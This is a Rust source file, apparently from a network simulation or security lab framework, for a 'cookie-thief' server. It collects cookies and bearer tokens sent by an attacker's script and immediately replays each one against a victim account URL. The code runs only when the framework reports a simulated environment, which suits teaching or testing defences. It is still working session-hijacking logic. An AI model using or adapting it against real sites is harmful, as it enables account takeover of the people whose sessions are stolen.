//! `cookie-thief`: where a script of the attacker's sends what it finds. What it gets, it uses at once in the victim's name.

use std::collections::BTreeSet;
use std::sync::{Arc, Mutex};

use http::{Method, StatusCode};
use schemars::JsonSchema;
use serde::Deserialize;
use serde_json::{Map, Value};

use super::{Asker, is_simulated, url};
use crate::app::read_table;
use crate::http::client::{BoxFuture, locked};
use crate::http::front::{Answer, Exchange, Front, Handle, Limits, LogFormat, Versions};
use crate::tls::server::below;
use crate::tls::{ClientOptions, ServerOptions};
use crate::{App, AppFuture, Cx, Env, Problem, Ready};

/// One who collects cookies and tokens. Scripts bring them as `?cookie=…` or `?token=…`.
#[derive(Clone, Debug, Deserialize, JsonSchema)]
#[serde(deny_unknown_fields)]
pub struct CookieThief {
    /// Its port; 80 unless given, 443 with TLS.
    #[serde(default)]
    pub port: Option<u16>,
    /// Its TLS, as a server.
    #[serde(default)]
    pub tls: Option<ServerOptions>,
    /// What it then asks for in the victim's name: `https://forum.example/account`.
    pub account: String,
    /// Its TLS, as a client.
    #[serde(default)]
    pub client: ClientOptions,
}

/// Things that are tried at most.
const MAX_LOOT: usize = 100;

/// Reads the table.
///
/// # Errors
/// What is wrong with it.
pub fn read(table: &Map<String, Value>, env: &Env) -> Result<Ready, Vec<Problem>> {
    let app: CookieThief = read_table(table)?;
    let mut problems: Vec<Problem> = url("account", &app.account).err().into_iter().collect();
    problems.extend(app.tls.iter().flat_map(|tls| below("tls", tls.check(env))));
    problems.extend(below("client", app.client.check(env)));
    if problems.is_empty() { Ok(Arc::new(app)) } else { Err(problems) }
}

struct Thief {
    table: Arc<CookieThief>,
    asker: Asker,
    loot: Mutex<BTreeSet<String>>,
    cx: Cx,
}

impl Thief {
    async fn take(&self, exchange: Exchange) -> Answer {
        let query = exchange.query().unwrap_or_default();
        let brought = url::form_urlencoded::parse(query.as_bytes())
            .find(|(name, _)| name == "cookie" || name == "token")
            .map(|(name, value)| (name.into_owned(), value.into_owned()));
        let Some((what, value)) = brought else { return Answer::error(StatusCode::NOT_FOUND) };
        let who = exchange.peer.ip();
        if value.is_empty() {
            self.cx.print(format!("{who} brings no {what}: the script found none"));
            return Answer::new(StatusCode::NO_CONTENT);
        }
        self.cx.print(format!("{who} brings a {what}: {value}"));
        let new = {
            let mut loot = locked(&self.loot);
            loot.len() < MAX_LOOT && loot.insert(value.clone())
        };
        if new {
            self.use_it(&what, &value).await;
        }
        Answer::new(StatusCode::NO_CONTENT)
    }

    async fn use_it(&self, what: &str, value: &str) {
        let bearer = format!("Bearer {value}");
        let field = if what == "token" { ("Authorization", bearer.as_str()) } else { ("Cookie", value) };
        let Ok(account) = url("account", &self.table.account) else { return };
        match self.asker.ask(Method::GET, account, &[field], String::new()).await {
            Ok(asked) => {
                let body = asked.body.lines().next().unwrap_or_default();
                self.cx.print(format!("with it, {}: {} {body}", self.table.account, asked.status));
            }
            Err(error) => self.cx.print(format!("with it, {}: {error}", self.table.account)),
        }
    }
}

impl Handle for Thief {
    fn handle(self: Arc<Self>, exchange: Exchange) -> BoxFuture<'static, Answer> {
        Box::pin(async move { self.take(exchange).await })
    }
}

impl App for CookieThief {
    fn run(self: Arc<Self>, cx: Cx) -> AppFuture {
        Box::pin(async move {
            if !is_simulated(&cx) {
                return 1;
            }
            let thief = Arc::new(Thief {
                asker: Asker::new(&self.client, &cx),
                table: self.clone(),
                loot: Mutex::default(),
                cx: cx.clone(),
            });
            let versions = Versions { http1: true, http2: true, http3: false };
            let front = Front::new(Limits::default(), versions, String::new(), LogFormat::Off, cx, thief);
            front.run(self.port, self.tls.as_ref()).await;
            1
        })
    }

    fn serves(&self) -> bool {
        true
    }
}
